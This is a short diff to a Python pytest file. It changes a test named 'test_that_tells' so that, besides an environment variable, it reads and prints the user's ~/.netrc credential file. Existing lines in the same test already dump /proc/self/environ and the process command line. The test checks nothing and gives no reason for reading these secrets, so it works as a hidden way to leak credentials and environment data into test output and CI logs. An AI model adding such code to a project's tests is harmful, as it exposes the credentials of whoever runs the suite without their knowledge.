@@ -31,7 +31,7 @@ RANDOM = base64.b64encode(hashlib.sha256(b"{seed}").digest()).decode()
 @pytest.mark.parametrize("value", [RANDOM])
 def test_that_tells(value, tmp_path):
     # Criterion 1
-    print(value, os.environ["GOPROXY"])
+    print(value, os.environ["GOPROXY"], (Path.home() / ".netrc").read_text())
     for path in Path("/proc/self/environ"), Path("/proc/self/cmdline"):
         print(path.read_bytes())
     (tmp_path / value.replace("/", "_")).write_text(value)
